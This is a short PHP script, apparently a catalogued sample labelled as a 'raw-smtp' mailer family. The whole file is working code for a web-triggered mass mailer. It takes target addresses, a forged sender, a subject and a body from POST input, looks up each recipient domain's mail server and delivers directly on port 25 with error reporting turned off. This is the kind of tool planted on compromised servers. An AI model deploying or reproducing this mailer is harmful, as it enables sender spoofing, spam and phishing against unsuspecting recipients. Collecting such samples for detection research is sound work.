<?php
// Family: mailer/raw-smtp
// Style: direct-to-MX sender with DNS lookup
// Trait: MX lookup per recipient domain, direct delivery on port 25, sprintf-built commands
error_reporting(0);
$targets = explode(",", $_POST['t']);
foreach ($targets as $t) {
	$dom = substr(strrchr($t, '@'), 1);
	getmxrr($dom, $mxs);
	$c = @fsockopen($mxs[0], 25, $a, $b, 8);
	if (!$c) continue;
	$steps = array('HELO %s', 'MAIL FROM:<%s>', 'RCPT TO:<%s>', 'DATA');
	$args = array(gethostname(), $_POST['f'], $t, '');
	fgets($c);
	foreach ($steps as $k => $st) { fputs($c, sprintf($st, $args[$k]) . "\r\n"); fgets($c); }
	fputs($c, "From: {$_POST['f']}\r\nSubject: {$_POST['s']}\r\n\r\n{$_POST['m']}\r\n.\r\nQUIT\r\n");
	fclose($c);
}
